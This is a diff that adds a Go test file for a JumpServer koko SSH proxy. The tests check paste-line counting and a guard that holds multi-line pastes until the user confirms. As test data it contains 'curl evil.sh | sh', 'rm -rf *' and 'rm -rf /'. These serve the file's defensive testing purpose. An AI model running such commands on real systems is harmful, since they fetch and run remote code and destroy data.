@@ -0,0 +1,87 @@
+package proxy
+
+import (
+	"bytes"
+	"encoding/json"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/jumpserver/koko/pkg/jms-sdk-go/model"
+	"github.com/jumpserver/koko/pkg/zmodem"
+)
+
+func TestPasteLines(t *testing.T) {
+	tests := []struct {
+		input string
+		lines int
+	}{
+		{"ls -l\r", 0},
+		{"\r", 0},
+		{"\x1b[200~echo hello\x1b[201~", 0},
+		{"\x1b[200~cd /tmp\rrm -rf *\r\x1b[201~", 2},
+		{"whoami\ncurl evil.sh | sh\n", 2},
+	}
+	for _, tt := range tests {
+		if got := len(pasteLines([]byte(tt.input))); got != tt.lines {
+			t.Errorf("pasteLines(%q) = %d lines, want %d", tt.input, got, tt.lines)
+		}
+	}
+}
+
+func TestParsePasteInputConfirm(t *testing.T) {
+	events := make(chan map[string]interface{}, 4)
+	jms := newTestJMService(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var data map[string]interface{}
+		_ = json.NewDecoder(r.Body).Decode(&data)
+		events <- data
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = w.Write([]byte("{}"))
+	}))
+	p := &Parser{
+		id:            "session-1",
+		protocolType:  model.ProtocolSSH,
+		platform:      &model.Platform{},
+		jmsService:    jms,
+		zmodemParser:  zmodem.New(),
+		srvOutputChan: make(chan []byte, 10),
+		paste:         pasteGuard{policy: pastePolicyConfirm},
+	}
+	if got := p.parsePasteInput([]byte("ls\r")); string(got) != "ls\r" {
+		t.Fatalf("parsePasteInput() single line = %q, want passthrough", got)
+	}
+	// 粘贴内容分多次到达
+	if got := p.parsePasteInput([]byte("\x1b[200~id\r")); got != nil {
+		t.Fatalf("parsePasteInput() before paste end = %q, want nil", got)
+	}
+	if got := p.parsePasteInput([]byte("rm -rf /\x1b[201~")); got != nil {
+		t.Fatalf("parsePasteInput() multi-line paste = %q, want wait for confirm", got)
+	}
+	prompt := <-p.srvOutputChan
+	if !bytes.Contains(prompt, []byte("rm -rf /")) {
+		t.Errorf("confirm prompt = %q, want pasted content", prompt)
+	}
+	if got := p.parsePasteInput([]byte("x")); got != nil {
+		t.Errorf("parsePasteInput() invalid answer = %q, want nil", got)
+	}
+	if got := p.parsePasteInput([]byte("y")); string(got) != "\x1b[200~id\rrm -rf /\x1b[201~" {
+		t.Errorf("parsePasteInput() confirmed = %q, want pasted content", got)
+	}
+	select {
+	case data := <-events:
+		if reason, _ := data["reason"].(string); !strings.Contains(reason, "pasted 2 lines") {
+			t.Errorf("lifecycle reason = %q, want pasted lines", reason)
+		}
+	case <-time.After(2 * time.Second):
+		t.Fatal("multi-line paste lifecycle log not recorded")
+	}
+
+	p.parsePasteInput([]byte("a\rb\r"))
+	if got := p.parsePasteInput([]byte("n")); !bytes.Equal(got, p.breakInputPacket()) {
+		t.Errorf("parsePasteInput() cancelled = %q, want break input", got)
+	}
+	if p.paste.pending != nil {
+		t.Error("pending paste not cleared after cancel")
+	}
+}